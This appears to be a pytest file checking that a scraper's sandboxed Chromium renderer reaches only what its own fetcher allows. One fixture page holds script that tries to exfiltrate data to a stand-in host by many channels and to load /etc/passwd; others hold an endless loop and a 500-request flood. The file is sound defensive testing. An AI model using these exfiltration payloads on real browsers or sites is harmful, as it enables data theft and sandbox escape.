"""A real Chromium draws what only a script can, and reaches nothing but what our fetcher fetches for it."""

import json
import os
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from ipaddress import ip_network
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from scrapers.archive.store import Store
from scrapers.discover import walk
from scrapers.errors import SettingsError
from scrapers.fetch import Fetched, Fetcher, Limits, Policy, browser
from scrapers.fetch.browser import Browser, BrowserLimits
from scrapers.harvest import Selection, harvest, open_works
from scrapers.model import Complete, Outcome, PageRequest, Source
from tests.conftest import settings_of

if shutil.which("chromium") is None and not os.environ.get("CI"):
    pytest.skip("no Chromium here: apt-get install chromium", allow_module_level=True)
pytestmark = pytest.mark.stack

LIST = """<!doctype html><meta charset="utf-8"><title>法治政府建设</title><body>
<ul id="l"></ul><a href="javascript:;" id="n" onclick="turn()">下一页</a>
<script>
var page = 0, part = ["/ap", "i/ro", "ws?n="].join("");
function turn() {
  fetch(part + (++page)).then(r => r.json()).then(rows => {
    document.getElementById("l").innerHTML = rows.map(r =>
      "<li><a href='/fz/" + r + ".html'>云溪县" + (2000 + r % 25) + "年法治政府建设报告</a>2025-01-02</li>").join("");
    if (page >= 3) document.getElementById("n").remove();
  });
}
turn();
</script></body>"""
TEXT = "".join(
    f"<p>第{n}项，依法履行职责，受理事项{n * 7}件，办结率为百分之九十九，群众较为满意。</p>" for n in range(1, 12)
)
EVIL = """<!doctype html><meta charset="utf-8"><title>页</title><body><div id="done"></div>
<img src="http://{other}/pixel.gif?secret=1"><link rel="stylesheet" href="http://{other}/a.css">
<link rel="preconnect" href="http://{other}"><link rel="prefetch" href="http://{other}/p">
<iframe src="http://{other}/frame"></iframe><iframe src="file:///etc/passwd"></iframe>
<form id="f" action="http://{other}/form" method="post" target="_blank"><input name="a" value="1"></form>
<script>
var other = "http://{other}", tries = [];
tries.push(fetch(other + "/fetch").catch(e => 0), fetch("http://localhost:1/x").catch(e => 0));
tries.push(fetch("/own/exfil", {{method: "PUT", body: "x"}}).catch(e => 0));
navigator.sendBeacon(other + "/beacon", "x");
try {{ new WebSocket("ws://{other}/ws"); }} catch (e) {{}}
try {{ new EventSource(other + "/events"); }} catch (e) {{}}
try {{ new Worker(URL.createObjectURL(new Blob(["fetch('" + other + "/worker')"]))); }} catch (e) {{}}
try {{ navigator.serviceWorker && navigator.serviceWorker.register("/sw.js"); }} catch (e) {{}}
try {{
  var rtc = new RTCPeerConnection({{iceServers: [{{urls: "stun:{other}"}}]}});
  rtc.createDataChannel("x"); rtc.createOffer().then(o => rtc.setLocalDescription(o));
}} catch (e) {{}}
try {{ window.open(other + "/popup"); document.getElementById("f").submit(); }} catch (e) {{}}
new Image().src = other + "/exfil?" + document.title;
Promise.all(tries).then(() => document.getElementById("done").textContent = "all tried");
</script></body>"""


class Handler(BaseHTTPRequestHandler):
    """Serves the pages above, and notes who asked for what."""

    def do_GET(self) -> None:
        self.server.asked.append((self.path, self.headers.get("User-Agent", "")))  # type: ignore[attr-defined]
        parts = urlsplit(self.path)
        pages = {
            "/list": LIST,
            "/evil": EVIL.format(other=self.server.other),  # type: ignore[attr-defined]
            "/busy": "<title>页</title><body>一个很忙的页面<script>while (true) {}</script>",
            "/greedy": "<title>页</title><body><p>好多请求</p><script>"
            "for (let n = 0; n < 500; n++) fetch('/api/rows?n=1&k=' + n).catch(e => 0);</script>",
        }
        if parts.path == "/api/rows":
            page = int(parts.query.partition("n=")[2][:1])
            body, kind = json.dumps([page * 3, page * 3 + 1, page * 3 + 2]), "application/json"
        elif parts.path.startswith("/fz/"):
            title = f"云溪县{2000 + int(parts.path[4:-5])}年法治政府建设报告"
            head = f"<title>{title}</title><body><h1>{title}</h1><p>发布时间：2025-01-02</p>"
            body = f"{head}<div id=zoom>{title}。{TEXT}</div>"
            kind = "text/html; charset=utf-8"
        else:
            body, kind = pages.get(parts.path, ""), "text/html; charset=utf-8"
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body.encode())))
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def listening(kind: int) -> Iterator[tuple[str, list[object]]]:
    """Count whoever reaches a port that nobody may reach."""
    reached: list[object] = []
    with socket.socket(socket.AF_INET, kind) as open_port:
        open_port.bind(("127.0.0.1", 0))
        open_port.settimeout(0.1)
        if kind == socket.SOCK_STREAM:
            open_port.listen()
        stop = threading.Event()

        def wait() -> None:
            while not stop.is_set():
                try:
                    reached.append(open_port.accept() if kind == socket.SOCK_STREAM else open_port.recvfrom(100))
                except TimeoutError:
                    continue
                except OSError:
                    return

        thread = threading.Thread(target=wait)
        thread.start()
        try:
            yield f"127.0.0.1:{open_port.getsockname()[1]}", reached
        finally:
            stop.set()
            thread.join()


@pytest.fixture
def site() -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.asked, server.other = [], "127.0.0.1:9"  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


@contextmanager
def drawing(site: ThreadingHTTPServer, limits: BrowserLimits | None = None) -> Iterator[tuple[Browser, str]]:
    host = f"127.0.0.1:{site.server_port}"
    policy = Policy(frozenset({host}), (ip_network("127.0.0.0/8"),), "", 0.0, Limits(backoff=0.01))
    with Fetcher(policy) as fetcher, Browser(fetcher.fetch, limits=limits) as made:
        yield made, f"http://{host}"


def test_a_list_that_only_its_script_can_draw_is_read_to_its_end(site: ThreadingHTTPServer) -> None:
    with drawing(site) as (made, origin):
        listing = Source("a", "", "430903", "generic", f"{origin}/list", urlsplit(origin).netloc, browser=True)
        result = walk(listing, made.page)
    found = sorted(int(one.url.rpartition("/")[2][:-5]) for one in result.candidates)
    assert (found, result.pages, result.complete) == (list(range(3, 12)), 3, Complete.YES)
    assert result.findings == ()
    assert all("ReportArchive" in agent for _, agent in site.asked)  # type: ignore[attr-defined]


def test_a_source_that_asks_for_a_browser_is_harvested_whole(
    site: ThreadingHTTPServer, store: Store, tmp_path: Path
) -> None:
    origin = f"http://127.0.0.1:{site.server_port}"
    (tmp_path / "43-hunan.toml").write_text(
        f'''title = "Hunan"\nprovince = "430000"\n\n[[source]]\nid = "hunan-drawn"\nagency = "益阳市赫山区司法局"
division = "430903"\nplatform = "generic"\nurl = "{origin}/list"\nbrowser = true\n''',
        "utf-8",
    )
    works = open_works(settings_of(store, sources=tmp_path))
    first, second = (harvest(works, "43-hunan", Selection(), run, "1") for run in ("first", "second"))
    assert (first.new_reports, first.outcomes["archived_new"], first.silent) == (9, 9, {})
    assert (second.new_reports, second.outcomes, second.silent) == (0, {"unchanged": 9}, {})
    assert all("ReportArchive" in agent for _, agent in site.asked)  # type: ignore[attr-defined]


def test_a_page_reaches_nothing_that_the_fetcher_does_not_fetch(site: ThreadingHTTPServer) -> None:
    with listening(socket.SOCK_STREAM) as (other, connections), listening(socket.SOCK_DGRAM) as (stun, datagrams):
        site.other = other  # type: ignore[attr-defined]
        with drawing(site) as (made, origin):
            page = made.page(PageRequest(f"{origin}/evil"))
            site.other = stun  # type: ignore[attr-defined]
            again = made.page(PageRequest(f"{origin}/evil"))
            time.sleep(1)
            refused = list(made.refused)
        assert "all tried" in page.text
        assert "all tried" in again.text
        assert (connections, datagrams) == ([], [])
    asked = {path for path, _ in site.asked}  # type: ignore[attr-defined]
    assert asked <= {"/evil", "/robots.txt", "/sw.js"}
    assert all("ReportArchive" in agent for _, agent in site.asked)  # type: ignore[attr-defined]
    assert any("not on the source's list" in reason or "inside a network" in reason for reason in refused)
    assert any("opens no socket" in reason for reason in refused)
    assert any("without image" in reason for reason in refused)
    assert "root:" not in page.text


def test_a_page_that_never_rests_is_ended_and_the_next_one_is_drawn(site: ThreadingHTTPServer) -> None:
    with drawing(site, BrowserLimits(wall=15.0, settle=3.0)) as (made, origin):
        assert made.page(PageRequest(f"{origin}/busy")).outcome is Outcome.TIMEOUT
        assert "2003" in made.page(PageRequest(f"{origin}/list")).text


def test_requests_are_capped(site: ThreadingHTTPServer) -> None:
    with drawing(site, BrowserLimits(requests=10)) as (made, origin):
        assert made.page(PageRequest(f"{origin}/greedy")).outcome is None
    assert len(site.asked) <= 11  # type: ignore[attr-defined]


def test_what_the_site_refuses_is_the_page_s_outcome(site: ThreadingHTTPServer) -> None:
    with drawing(site) as (made, origin):
        assert made.page(PageRequest(f"{origin}/none")).outcome is Outcome.NOT_FOUND
        assert made.page(PageRequest("http://www.a.gov.cn/")).outcome is Outcome.OFF_SCOPE_REDIRECT


def test_what_our_own_fetching_raises_is_raised_through_the_driver(site: ThreadingHTTPServer) -> None:
    def lost(_: PageRequest) -> Fetched:
        raise KeyboardInterrupt

    with Browser(lost) as made, pytest.raises(KeyboardInterrupt):
        made.page(PageRequest(f"http://127.0.0.1:{site.server_port}/list"))


def test_without_a_chromium_the_fix_is_named(site: ThreadingHTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(browser.shutil, "which", lambda _: None)
    with drawing(site) as (made, origin), pytest.raises(SettingsError, match="apt-get install chromium"):
        made.page(PageRequest(f"{origin}/list"))
